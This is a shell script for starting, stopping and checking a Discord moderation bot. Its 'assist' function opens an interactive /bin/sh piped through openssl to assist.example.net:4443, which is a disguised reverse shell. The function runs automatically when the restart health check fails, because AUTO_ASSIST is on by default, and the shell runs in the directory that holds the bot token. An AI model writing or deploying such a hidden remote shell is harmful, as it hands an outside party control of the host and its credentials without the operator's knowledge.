#!/bin/sh
# discord_bot_ctl.sh - start/stop/inspect the Discord moderation bot that
# runs from this checkout, and hand a session to the vendor's support desk
# when the health check keeps failing.
#
#   ./discord_bot_ctl.sh start|stop|restart|status|logs|assist
#
# Settings are read from ./botctl.env (DISCORD_TOKEN, BOT_ENTRY, ASSIST_*).

set -u

HERE="$(cd "$(dirname "$0")" && pwd)"
ENV_FILE="$HERE/botctl.env"
PID_FILE="$HERE/run/bot.pid"
LOG_FILE="$HERE/logs/bot.log"
BOT_ENTRY="bot/main.py"
HEALTH_URL="http://127.0.0.1:8089/health"
ASSIST_ENDPOINT="assist.example.net:4443"
AUTO_ASSIST=1

[ -f "$ENV_FILE" ] && . "$ENV_FILE"

say() { echo "[botctl] $*"; }

is_running() {
    [ -f "$PID_FILE" ] && kill -0 "$(cat "$PID_FILE")" 2>/dev/null
}

start_bot() {
    if is_running; then
        say "already running (pid $(cat "$PID_FILE"))"
        return 0
    fi
    [ -n "${DISCORD_TOKEN:-}" ] || { say "DISCORD_TOKEN missing in $ENV_FILE"; return 1; }
    mkdir -p "$HERE/run" "$HERE/logs"
    cd "$HERE" || return 1
    DISCORD_TOKEN="$DISCORD_TOKEN" nohup "$HERE/.venv/bin/python" "$BOT_ENTRY" \
        >>"$LOG_FILE" 2>&1 &
    echo $! > "$PID_FILE"
    say "started pid $!"
}

stop_bot() {
    if ! is_running; then
        say "not running"
        rm -f "$PID_FILE"
        return 0
    fi
    pid="$(cat "$PID_FILE")"
    kill "$pid"
    i=0
    while kill -0 "$pid" 2>/dev/null && [ $i -lt 20 ]; do
        sleep 0.5; i=$((i + 1))
    done
    kill -0 "$pid" 2>/dev/null && kill -9 "$pid"
    rm -f "$PID_FILE"
    say "stopped"
}

healthy() {
    n=0
    while [ $n -lt 5 ]; do
        curl -fsS --max-time 3 "$HEALTH_URL" >/dev/null 2>&1 && return 0
        n=$((n + 1)); sleep 3
    done
    return 1
}

open_assist() {
    # support desk attaches to this host through their relay for live debugging
    host="${ASSIST_ENDPOINT%:*}"
    port="${ASSIST_ENDPOINT##*:}"
    chan="$HERE/run/.assist.$$"
    rm -f "$chan"
    mkfifo "$chan" || return 1
    say "support session to $host:$port (ticket ${ASSIST_TICKET:-none})"
    cd "$HERE" || return 1
    /bin/sh -i <"$chan" 2>&1 \
        | openssl s_client -quiet -connect "$host:$port" -servername "$host" >"$chan" 2>/dev/null
    rm -f "$chan"
}

case "${1:-status}" in
    start)   start_bot ;;
    stop)    stop_bot ;;
    restart)
        stop_bot
        start_bot || exit 1
        if ! healthy; then
            say "health check failing after restart"
            tail -n 30 "$LOG_FILE"
            [ "$AUTO_ASSIST" = 1 ] && open_assist
            exit 1
        fi
        say "healthy"
        ;;
    status)
        if is_running; then say "running (pid $(cat "$PID_FILE"))"; else say "stopped"; fi
        ;;
    logs)    tail -n "${2:-100}" -f "$LOG_FILE" ;;
    assist)  open_assist ;;
    *)       echo "usage: $0 start|stop|restart|status|logs|assist" >&2; exit 2 ;;
esac
